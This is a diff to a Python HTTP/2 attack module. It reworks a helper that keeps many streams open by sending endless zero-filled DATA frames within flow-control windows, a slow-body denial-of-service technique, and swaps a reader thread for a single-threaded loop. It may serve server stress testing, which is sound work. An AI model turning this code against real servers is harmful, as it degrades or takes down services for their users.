@@ -17,7 +17,6 @@ import signal
 import socket
 import struct
 import sys
-import threading
 import time
 import zlib
 from collections.abc import Callable, Iterator
@@ -145,28 +144,27 @@ def unfinished_bodies(target: Target) -> None:
 
 
 def _upload(connection: Connection, streams: list[int], seconds: float) -> None:
-    """Send zeros on the streams, as the windows allow, without an end."""
+    """Send zeros on the streams, as the windows allow, without an end.
+
+    One thread sends and reads: OpenSSL allows no two at one connection.
+    """
     windows = dict.fromkeys([0, *streams], 65535 - 5)
     zeros = bytes(16384)
     end = time.monotonic() + seconds
-
-    def read() -> None:
-        with ignored_errors():
-            while time.monotonic() < end and (frame := connection.read()) is not None:
-                if frame.kind == WINDOW and frame.stream in windows:
-                    windows[frame.stream] += int.from_bytes(frame.payload, "big")
-
-    threading.Thread(target=read, daemon=True).start()
-    for stream in itertools.cycle(streams):
+    while (left := end - time.monotonic()) > 0:
+        stream = max(streams, key=lambda one: windows[one])
         size = min(windows[0], windows[stream], MIB) // 16384 * 16384
-        if time.monotonic() > end:
-            return
-        if size <= 0:
-            time.sleep(0.0005)
+        if size > 0:
+            windows[0] -= size
+            windows[stream] -= size
+            connection.send(encode_frame(DATA, 0, stream, zeros) * (size // 16384))
             continue
-        windows[0] -= size
-        windows[stream] -= size
-        connection.send(encode_frame(DATA, 0, stream, zeros) * (size // 16384))
+        connection.set_timeout(left)
+        frame = connection.read()
+        if frame is None:
+            return
+        if frame.kind == WINDOW and frame.stream in windows:
+            windows[frame.stream] += int.from_bytes(frame.payload, "big")
 
 
 @attack()
